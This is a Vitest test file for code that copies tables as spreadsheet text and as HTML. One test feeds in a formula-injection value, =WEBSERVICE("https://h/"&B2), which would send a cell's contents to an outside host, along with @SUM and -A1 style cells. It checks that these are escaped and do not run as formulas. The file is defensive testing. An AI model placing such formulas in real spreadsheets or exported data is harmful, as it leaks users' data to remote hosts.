import { expect, test } from 'vitest';
import { tableRows } from '../../model/table/table-rows.ts';
import { tableShape } from '../../model/table/table-shape.ts';
import { tableAsHtml, tableAsText } from './copied-table.ts';

const text = '2023 | 2022 | 2021\nR&D <net> | $ | 7 | $ | (5) | 3\nShare | 4 | %\n';
const shape = tableShape(text.trimEnd());
const rows = shape === null ? [] : tableRows(text.trimEnd(), shape);

test('a table is copied for spreadsheets, a number with its sign in one cell', () => {
  expect(tableAsText(rows)).toBe('\t2023\t2022\t2021\nR&D <net>\t$7\t$(5)\t3\nShare\t4%');
});

test('no formula of a document gets into a spreadsheet, and signed figures stay figures', () => {
  const words = 'Name | 2023 | 2022\n=WEBSERVICE("https://h/"&B2) | -5 | +3.1%\n@SUM(A1) | -A1 | $(7)';
  const given = tableShape(words);
  const copied = given === null ? [] : tableRows(words, given);
  for (const text of [tableAsText(copied), tableAsHtml(copied)]) {
    expect(text).toMatch(/'=WEBSERVICE.*-5.*\+3\.1%.*'@SUM.*'-A1/su);
    expect(text).not.toMatch(/[>\t\n][=@]/u);
    expect(text).not.toContain("'-5");
  }
});

test('a table is copied for documents, with nothing in it that is no text', () => {
  expect(tableAsHtml(rows)).toBe(
    '<table><tr><th></th><th style="text-align:right">2023</th><th style="text-align:right">2022</th><th style="text-align:right">2021</th></tr>' +
      '<tr><td>R&amp;D &lt;net&gt;</td><td style="text-align:right">$7</td><td style="text-align:right">$(5)</td><td style="text-align:right">3</td></tr>' +
      '<tr><td>Share</td><td colspan="3">4%</td></tr></table>',
  );
});
